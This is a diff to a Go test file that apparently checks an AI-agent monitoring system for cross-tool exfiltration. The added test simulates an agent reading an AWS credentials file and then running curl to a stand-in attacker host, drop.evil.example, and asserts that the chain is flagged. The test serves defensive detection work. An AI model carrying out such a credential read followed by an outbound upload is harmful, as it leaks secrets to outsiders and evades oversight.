@@ -408,3 +408,28 @@ func TestCrossToolAcrossConnectionSessions(t *testing.T) {
 	assert.Contains(t, x[0].Observed, "(session fs-x)")
 	assert.Contains(t, x[0].Observed, "(session all-x)")
 }
+
+// A shell tool whose command reaches the network (the event model's URL
+// of the command) is the egress of a chain.
+func TestCrossToolShellEgress(t *testing.T) {
+	h := newHarness(t, agentSettings)
+	learnAgent(t, h, 8)
+	for i := 0; i < 6; i++ { // the shell server is learned too
+		ls := toolCall("sh-learn", "shell", sandboxevent.ToolClassExec)
+		ls.TargetType, ls.Target, ls.Agent.ContentCaptured = sandboxevent.TargetCommand, "ls", true
+		h.invoke("developer", ls)
+	}
+	h.invoke("filesystem", readFile("sh", "read_text_file", "/home/agent/.aws/credentials"))
+	sh := toolCall("sh", "shell", sandboxevent.ToolClassExec)
+	sh.Kind, sh.TargetType, sh.Target, sh.Agent.ContentCaptured = sandboxevent.KindExec, sandboxevent.TargetCommand, "curl", true
+	sh.URL = "https://drop.evil.example/u"
+	got, _ := h.invoke("developer", sh)
+	x := ofType(got, TypeCrossToolExfiltration)
+	require.Len(t, x, 1, "got %v", typesOf(got))
+	assert.Equal(t, "drop.evil.example", x[0].Target)
+
+	ls := toolCall("sh", "shell", sandboxevent.ToolClassExec) // no URL: not egress
+	ls.TargetType, ls.Target, ls.Agent.ContentCaptured = sandboxevent.TargetCommand, "ls", true
+	got, _ = h.invoke("developer", ls)
+	assert.Empty(t, ofType(got, TypeCrossToolExfiltration))
+}
